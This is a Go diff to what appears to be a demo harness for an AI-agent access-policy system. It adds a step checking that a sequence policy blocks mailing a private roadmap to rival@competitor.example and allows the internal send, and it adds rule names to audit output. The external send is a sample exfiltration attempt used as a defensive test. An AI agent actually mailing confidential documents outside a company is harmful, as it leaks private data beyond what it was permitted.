@@ -85,6 +85,27 @@ func (e *env) story(ctx context.Context) error {
 			fmt.Fprintf(e.out, "    new token: scope=%q\n", claims["scope"])
 			return nil
 		}},
+		{"Sequence policy: after reading private documents, mailing them out of the company is denied; the agent sends internally", func() error {
+			mail, err := e.connect(ctx, client, e.mailURL)
+			if err != nil {
+				return err
+			}
+			defer mail.session.Close()
+			_, err = mail.call(ctx, "send_message", map[string]any{"to": "rival@competitor.example", "subject": "roadmap", "body": "Q4: acquire Initech"})
+			if err == nil {
+				return errors.New("mailing the private roadmap outside the company was allowed")
+			}
+			fmt.Fprintf(e.out, "    send_message(rival@competitor.example) → %v\n", err)
+			if !strings.Contains(err.Error(), "@example.com") {
+				return fmt.Errorf("the refusal does not tell the agent what it may do instead: %v", err)
+			}
+			out, err := mail.call(ctx, "send_message", map[string]any{"to": "ceo@example.com", "subject": "roadmap", "body": "Q4: acquire Initech"})
+			if err != nil {
+				return fmt.Errorf("the internal send was refused: %w", err)
+			}
+			fmt.Fprintf(e.out, "    send_message(ceo@example.com) → %q\n", out)
+			return nil
+		}},
 	}
 	defer func() {
 		if docs != nil {
@@ -311,6 +332,9 @@ func (e *env) printAudit() {
 		line := fmt.Sprintf("    audit: %-8s %-8s %-9s %-26s", ev.Kind, ev.Route, ev.Decision, what)
 		if ev.Reason != "" {
 			line += " reason=" + ev.Reason
+		}
+		if ev.Decision == audit.Deny || ev.Decision == audit.StepUp {
+			line += " rule=" + ev.Rule
 		}
 		if ev.Status != 0 {
 			line += fmt.Sprintf(" status=%d", ev.Status)
